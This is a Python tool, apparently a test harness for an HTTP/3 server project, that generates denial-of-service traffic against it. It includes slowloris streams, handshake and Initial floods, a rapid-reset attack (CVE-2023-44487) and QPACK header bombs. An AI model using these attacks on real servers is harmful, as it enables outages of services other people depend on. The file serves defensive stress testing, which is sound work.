"""Attack traffic for h3q's abuse tests (test_abuse.py) and soak (scripts/soak.py).

Run as a program, one attack per process, so that the attacker's Python CPU
never competes with the test's measurements for the GIL:

    abuse_client.py MODE --host 127.0.0.1 --port P [--count N] [--hold S] ...

It prints JSON lines on stdout: {"event": "ready", ...} once the attack is in
place (connections established, streams opened), then {"event": "done", ...}
with its counters when --hold seconds have passed. Every loop is bounded by a
deadline; the program never runs longer than --hold plus --setup seconds.

Modes (see test_abuse.py for what each proves):
  idle           N connections handshaken, then silent
  slow-headers   N connections, each dribbling a HEADERS frame one byte every
                 --interval s and never finishing it (a new stream when the
                 server resets the old one)
  slow-body      N connections, each a POST /echo whose body comes one byte
                 (one DATA frame) every --interval s
  halfopen       N handshakes that never get past the client's first flight:
                 each client repeats its Initial every --interval s and ignores
                 the answers (a CRYPTO/handshake flood)
  initial-flood  N distinct valid Initials (distinct DCIDs) sent once each, as
                 fast as possible, from --ports source ports, --delay s after
                 'ready'; answers ignored
  rapid-reset    on --count connections, open a request stream and reset it at
                 once, again and again for --hold s (CVE-2023-44487 pattern)
  tiny-data      POST /digest with a body of --count one-byte DATA frames;
                 checks the digest the server answers
  header-bombs   requests whose header sections exceed the server's limits:
                 huge literal sections and QPACK bombs (one dynamic-table entry
                 referenced many times), --count of each, repeated for --hold s

The swarm modes (idle .. initial-flood) drive aioquic's QuicConnection by
hand, one UDP socket per connection on one epoll loop: far lighter than one
asyncio protocol per connection, and every connection has its own source
port.
"""

from __future__ import annotations

import argparse
import asyncio
import hashlib
import heapq
import itertools
import json
import selectors
import socket
import ssl
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from aioquic.quic.configuration import QuicConfiguration  # noqa: E402
from aioquic.quic.connection import QuicConnection  # noqa: E402
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, StreamReset  # noqa: E402

import h3_wire as w  # noqa: E402

H3_REQUEST_CANCELLED = 0x10C
HANDSHAKES_IN_FLIGHT = 64
RESET_BATCH = 16  # rapid-reset: streams opened (then reset) per round  # bounds the attacker's burst, not the attack size
RECV_PER_WAKEUP = 16


def emit(**kw) -> None:
    print(json.dumps(kw), flush=True)


def quic_config(idle_timeout: float = 900.0) -> QuicConfiguration:
    cfg = QuicConfiguration(is_client=True, alpn_protocols=["h3"], idle_timeout=idle_timeout)
    cfg.verify_mode = ssl.CERT_NONE
    cfg.server_name = "localhost"
    return cfg


def first_initial(cfg: QuicConfiguration, addr) -> bytes:
    """A fresh client's first datagram: a valid Initial (ClientHello) with a
    new random DCID, padded to 1200 bytes."""
    q = QuicConnection(configuration=cfg)
    q.connect(addr, now=time.time())
    return q.datagrams_to_send(now=time.time())[0][0]


# --------------------------------------------------------------------------
# the swarm: many hand-driven connections on one epoll loop


class Peer:
    def __init__(self, swarm: "Swarm", idx: int) -> None:
        self.idx = idx
        self.sock = socket.socket(swarm.family, socket.SOCK_DGRAM)
        self.sock.bind((swarm.host, 0))
        self.sock.setblocking(False)
        self.q = QuicConnection(configuration=swarm.cfg)
        self.established = False
        self.dead = False
        self.timer_seq = 0
        self.sid: int | None = None    # slowloris: the current request stream
        self.pending = b""             # slowloris-headers: bytes not sent yet
        self.initial = b""             # halfopen: the datagram it repeats


class Swarm:
    def __init__(self, host: str, port: int, mode: str, interval: float) -> None:
        self.host, self.port, self.mode, self.interval = host, port, mode, interval
        self.family = socket.AF_INET6 if ":" in host else socket.AF_INET
        self.addr = (host, port) if self.family == socket.AF_INET else (host, port, 0, 0)
        self.authority = f"[{host}]:{port}" if ":" in host else f"{host}:{port}"
        self.cfg = quic_config()
        self.sel = selectors.DefaultSelector()
        self.peers: list[Peer] = []
        self.timers: list[tuple[float, int, int, Peer]] = []
        self.seq = itertools.count()
        self.stats = {"established": 0, "terminated": 0, "stream_resets": 0,
                      "streams_opened": 0, "bytes_dribbled": 0, "datagrams_sent": 0,
                      "datagrams_received": 0, "bytes_sent": 0, "bytes_received": 0}

    # --- plumbing --------------------------------------------------------

    def _arm(self, p: Peer) -> None:
        t = p.q.get_timer()
        p.timer_seq += 1
        if t is not None:
            heapq.heappush(self.timers, (t, next(self.seq), p.timer_seq, p))

    def _flush(self, p: Peer) -> None:
        if self.mode == "halfopen":
            return  # half-open clients never answer
        for data, _ in p.q.datagrams_to_send(now=time.time()):
            try:
                p.sock.sendto(data, self.addr)
                self.stats["datagrams_sent"] += 1
                self.stats["bytes_sent"] += len(data)
            except (BlockingIOError, OSError):
                pass  # lost, like on a real network
        self._events(p)
        self._arm(p)

    def _events(self, p: Peer) -> None:
        while (ev := p.q.next_event()) is not None:
            if isinstance(ev, HandshakeCompleted):
                p.established = True
                self.stats["established"] += 1
                self._on_established(p)
            elif isinstance(ev, StreamReset):
                self.stats["stream_resets"] += 1
                if ev.stream_id == p.sid:
                    self._open_slow_stream(p)  # the server gave up on it: again
            elif isinstance(ev, ConnectionTerminated):
                if not p.dead:
                    p.dead = True
                    self.stats["terminated"] += 1

    def open(self, n: int) -> None:
        p = Peer(self, len(self.peers))
        self.peers.append(p)
        self.sel.register(p.sock, selectors.EVENT_READ, p)
        p.q.connect(self.addr, now=time.time())
        if self.mode == "halfopen":
            p.initial = p.q.datagrams_to_send(now=time.time())[0][0]
            self._resend_initial(p)
            return
        self._flush(p)

    def _resend_initial(self, p: Peer) -> None:
        with _quiet():
            p.sock.sendto(p.initial, self.addr)
            self.stats["datagrams_sent"] += 1
            self.stats["bytes_sent"] += len(p.initial)
        heapq.heappush(self.timers, (time.time() + self.interval, next(self.seq), -1, p))

    def run_until(self, deadline: float, done=lambda: False) -> None:
        while time.time() < deadline and not done():
            timeout = 0.05
            if self.timers:
                timeout = max(0.0, min(timeout, self.timers[0][0] - time.time()))
            for key, _ in self.sel.select(timeout):
                self._readable(key.data)
            self._fire_timers()

    def _readable(self, p: Peer) -> None:
        got = False
        for _ in range(RECV_PER_WAKEUP):
            try:
                data, addr = p.sock.recvfrom(65536)
            except (BlockingIOError, OSError):
                break
            self.stats["datagrams_received"] += 1
            self.stats["bytes_received"] += len(data)
            if self.mode == "halfopen":
                continue  # ignored: the handshake never progresses
            p.q.receive_datagram(data, addr, now=time.time())
            got = True
        if got:
            self._flush(p)

    def _fire_timers(self) -> None:
        now = time.time()
        while self.timers and self.timers[0][0] <= now:
            _, _, seq, p = heapq.heappop(self.timers)
            if seq == -1:
                self._resend_initial(p)
            elif seq == -2:
                self._dribble(p)
            elif seq == p.timer_seq and not p.dead:
                p.q.handle_timer(now=now)
                self._flush(p)

    # --- behaviours ------------------------------------------------------

    def _on_established(self, p: Peer) -> None:
        sid = p.q.get_next_available_stream_id(is_unidirectional=True)
        p.q.send_stream_data(sid, w.varint(w.STREAM_CONTROL) + w.settings_frame(w.CLIENT_SETTINGS))
        if self.mode in ("slow-headers", "slow-body"):
            self._open_slow_stream(p)

    def _open_slow_stream(self, p: Peer) -> None:
        if p.dead or self.mode not in ("slow-headers", "slow-body"):
            return
        try:
            p.sid = p.q.get_next_available_stream_id()
        except Exception:  # out of stream credit: this one stays quiet
            p.sid = None
            return
        self.stats["streams_opened"] += 1
        if self.mode == "slow-headers":
            fields = [(":method", "GET"), (":scheme", "https"), (":authority", self.authority),
                      (":path", "/hello"), ("user-agent", "x" * 200)]
            hdr = w.pylsqpack_headers_frame(fields)
            # The last byte is never sent: the section stays incomplete.
            p.q.send_stream_data(p.sid, hdr[:2])
            p.pending = hdr[2:-1]
        else:
            fields = [(":method", "POST"), (":scheme", "https"), (":authority", self.authority),
                      (":path", "/echo"), ("content-length", "100000000")]
            p.q.send_stream_data(p.sid, w.pylsqpack_headers_frame(fields))
        heapq.heappush(self.timers, (time.time() + self.interval, next(self.seq), -2, p))

    def _dribble(self, p: Peer) -> None:
        if p.dead or p.sid is None:
            return
        try:
            if self.mode == "slow-headers":
                if p.pending:
                    p.q.send_stream_data(p.sid, p.pending[:1])
                    p.pending = p.pending[1:]
                    self.stats["bytes_dribbled"] += 1
            else:
                p.q.send_stream_data(p.sid, w.frame(w.DATA, b"x"))
                self.stats["bytes_dribbled"] += 1
        except Exception:  # the stream was reset meanwhile: _events reopens
            pass
        self._flush(p)
        heapq.heappush(self.timers, (time.time() + self.interval, next(self.seq), -2, p))

    def alive(self) -> int:
        return sum(1 for p in self.peers if p.established and not p.dead)

    def close_all(self, deadline: float) -> None:
        for p in self.peers:
            if not p.dead and self.mode != "halfopen":
                p.q.close(error_code=0)
                self._flush(p)
        self.run_until(min(deadline, time.time() + 0.5))
        for p in self.peers:
            with _quiet():
                self.sel.unregister(p.sock)
            p.sock.close()


class _quiet:
    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return exc[0] is not None and issubclass(exc[0], (OSError, KeyError, ValueError))


def run_swarm(a) -> dict:
    sw = Swarm(a.host, a.port, a.mode, a.interval)
    setup_deadline = time.time() + a.setup
    t0 = time.time()
    started = 0
    while started < a.count and time.time() < setup_deadline:
        in_flight = started - sw.stats["established"] - sw.stats["terminated"]
        if a.mode == "halfopen" or in_flight < HANDSHAKES_IN_FLIGHT:
            sw.open(started)
            started += 1
            if a.mode == "halfopen" and started % 64 == 0:
                sw.run_until(time.time() + 0.001)
        else:
            sw.run_until(time.time() + 0.02, lambda: started - sw.stats["established"]
                         - sw.stats["terminated"] < HANDSHAKES_IN_FLIGHT)
    if a.mode != "halfopen":
        sw.run_until(setup_deadline, lambda: sw.stats["established"] + sw.stats["terminated"] >= started)
    emit(event="ready", mode=a.mode, started=started, established=sw.stats["established"],
         alive=sw.alive(), setup_s=round(time.time() - t0, 3))
    sw.run_until(time.time() + a.hold)
    alive = sw.alive()
    sw.close_all(time.time() + 2)
    return dict(sw.stats, started=started, alive_at_end=alive)


def run_initial_flood(a) -> dict:
    cfg = quic_config()
    family = socket.AF_INET6 if ":" in a.host else socket.AF_INET
    addr = (a.host, a.port) if family == socket.AF_INET else (a.host, a.port, 0, 0)
    socks = []
    for _ in range(a.ports):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.bind((a.host, 0))
        s.setblocking(False)
        socks.append(s)
    # Built first (aioquic needs ~2 ms per ClientHello) so the flood itself
    # is as dense as the sender can make it.
    t0 = time.time()
    deadline = t0 + a.setup
    initials = []
    while len(initials) < a.count and time.time() < deadline:
        initials.append(first_initial(cfg, addr))
    emit(event="ready", mode=a.mode, initials=len(initials), build_s=round(time.time() - t0, 3))
    time.sleep(a.delay)
    sent = recv_bytes = 0
    t1 = time.time()
    for i, d in enumerate(initials):
        with _quiet():
            socks[i % len(socks)].sendto(d, addr)
            sent += 1
    flood_s = time.time() - t1
    end = time.time() + a.hold
    while time.time() < end:  # drain replies so the kernel buffers stay small
        for s in socks:
            for _ in range(RECV_PER_WAKEUP):
                try:
                    recv_bytes += len(s.recv(65536))
                except (BlockingIOError, OSError):
                    break
        time.sleep(0.01)
    for s in socks:
        s.close()
    return {"sent": sent, "flood_s": round(flood_s, 3), "reply_bytes": recv_bytes,
            "sent_bytes": sum(len(d) for d in initials[:sent])}


# --------------------------------------------------------------------------
# stream-level attacks over h3_wire (asyncio, few connections)


async def rapid_reset(a) -> dict:
    stats = {"streams_reset": 0, "credit_waits": 0, "connections": a.count, "server_closed": 0, "close_codes": []}
    end_at = [0.0]

    async def one(c: w.RawH3) -> None:
        hdr = c.request_headers("GET", "/bytes/1000000")
        while time.time() < end_at[0] and not c.closed():
            batch = []
            for _ in range(RESET_BATCH):
                sid = c.bidi()
                if sid // 4 >= c.quic._remote_max_streams_bidi:
                    break  # out of stream credit (aioquic would send it anyway)
                c.quic.send_stream_data(sid, hdr)
                batch.append(sid)
            if not batch:
                stats["credit_waits"] += 1
                await c.wait_until(lambda: sid // 4 < c.quic._remote_max_streams_bidi, 0.5)
                continue
            if a.split:
                # HEADERS in one packet, RESET_STREAM in a later one: the
                # server has seen the requests (and may run their handlers).
                c.proto.transmit()
                await asyncio.sleep(0.002)
            for sid in batch:
                c.quic.reset_stream(sid, H3_REQUEST_CANCELLED)
            c.proto.transmit()
            stats["streams_reset"] += len(batch)
            await asyncio.sleep(0)  # let the loop read the server's packets
        if c.closed():
            stats["server_closed"] += 1
            if c.peer_close:
                stats["close_codes"].append(str(c.peer_close))

    conns = []
    async with contextlib_stack() as stack:
        for _ in range(a.count):
            conns.append(await stack.enter_async_context(w.connect(a.host, a.port)))
        emit(event="ready", mode=a.mode, connections=len(conns))
        end_at[0] = time.time() + a.hold
        await asyncio.gather(*(one(c) for c in conns))
    return stats


async def tiny_data(a) -> dict:
    body = bytes(i % 251 for i in range(a.count))
    async with w.connect(a.host, a.port, timeout=30) as c:
        emit(event="ready", mode=a.mode, frames=a.count)
        sid = c.bidi()
        c.send(sid, c.request_headers("POST", "/digest", [("content-length", str(len(body)))]))
        chunk = 4096  # frames per write, so aioquic's buffers stay small
        t0 = time.time()
        for i in range(0, len(body), chunk):
            c.quic.send_stream_data(sid, b"".join(w.frame(w.DATA, body[j:j + 1])
                                                  for j in range(i, min(i + chunk, len(body)))))
            c.proto.transmit()
            await c.acked(sid, timeout=60)
        c.send(sid, b"", fin=True)
        r = await c.response(sid, timeout=60)
        text = r.body.decode(errors="replace")
        want = hashlib.sha256(body).hexdigest()
        return {"status": r.status, "digest_ok": f"sha256 {want}" in text,
                "upload_s": round(time.time() - t0, 3), "frames": len(body)}


def qpack_bomb_section(c: w.RawH3, refs: int) -> bytes:
    """A HEADERS frame for GET /hello that references dynamic entry 0 (one
    ~4 kB field) `refs` times: refs x 4 kB once decoded, from refs bytes."""
    ric = w.required_insert_count(1, BOMB_TABLE)
    sec = (w.section_prefix(ric, base=1, ric=1) + w.fl_static(17) + w.fl_static(23)
           + w.fl_static_name(0, c.authority) + w.fl_static_name(1, "/hello")
           + w.fl_dynamic(0) * refs)
    return w.frame(w.HEADERS, sec)


BOMB_TABLE = 4096  # the server's default qpack_max_table_capacity


async def header_bombs(a) -> dict:
    stats = {"rounds": 0, "statuses": {}, "resets": {}, "connections": 0, "close_codes": []}
    end = time.time() + a.hold
    emitted = False
    while time.time() < end:
        async with w.connect(a.host, a.port, timeout=30) as c:
            stats["connections"] += 1
            if not emitted:
                emit(event="ready", mode=a.mode)
                emitted = True
            enc = c.uni(w.STREAM_QPACK_ENCODER, w.enc_set_capacity(BOMB_TABLE)
                        + w.enc_insert_literal("x-bomb", "b" * (BOMB_TABLE - 100)))
            del enc
            sids = []
            for i in range(a.count):
                if c.closed():
                    break
                sid = c.bidi()  # a QPACK bomb: 4,000 references, 16 MB decoded
                c.send(sid, qpack_bomb_section(c, 4000), fin=True)
                sids.append(sid)
            for i in range(a.count):
                if c.closed():
                    break
                # A huge section: 200 fields of 1,000 bytes (200 kB).
                big = [(f"x-big-{k}", "v" * 1000) for k in range(200)]
                sid = c.bidi()
                c.send(sid, c.request_headers("GET", "/hello", big), fin=True)
                sids.append(sid)
            for sid in sids:
                r = await c.response(sid, timeout=10)
                key = str(r.status) if r.status is not None else "none"
                stats["statuses"][key] = stats["statuses"].get(key, 0) + 1
                if r.reset_code is not None:
                    rk = w.error_name(r.reset_code)
                    stats["resets"][rk] = stats["resets"].get(rk, 0) + 1
            if c.peer_close:
                stats["close_codes"].append(str(c.peer_close))
        stats["rounds"] += 1
    return stats


class contextlib_stack:
    """contextlib.AsyncExitStack, named here for the one place it is used."""

    def __init__(self) -> None:
        import contextlib
        self._s = contextlib.AsyncExitStack()

    async def __aenter__(self):
        return await self._s.__aenter__()

    async def __aexit__(self, *exc):
        return await self._s.__aexit__(*exc)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("mode", choices=["idle", "slow-headers", "slow-body", "halfopen", "initial-flood",
                                     "rapid-reset", "tiny-data", "header-bombs"])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--count", type=int, default=100)
    ap.add_argument("--hold", type=float, default=10.0, help="seconds the attack lasts once ready")
    ap.add_argument("--setup", type=float, default=120.0, help="seconds allowed to get ready")
    ap.add_argument("--interval", type=float, default=1.0, help="dribble/repeat period, seconds")
    ap.add_argument("--ports", type=int, default=64, help="initial-flood: source ports")
    ap.add_argument("--delay", type=float, default=0.0,
                    help="initial-flood: seconds between 'ready' and the flood (so that a "
                         "normal client can connect first)")
    ap.add_argument("--split", action="store_true",
                    help="rapid-reset: RESET_STREAM in a later packet than HEADERS")
    a = ap.parse_args()
    if a.mode in ("idle", "slow-headers", "slow-body", "halfopen"):
        res = run_swarm(a)
    elif a.mode == "initial-flood":
        res = run_initial_flood(a)
    else:
        fn = {"rapid-reset": rapid_reset, "tiny-data": tiny_data, "header-bombs": header_bombs}[a.mode]
        res = asyncio.run(fn(a))
    emit(event="done", mode=a.mode, **res)
    return 0


if __name__ == "__main__":
    sys.exit(main())
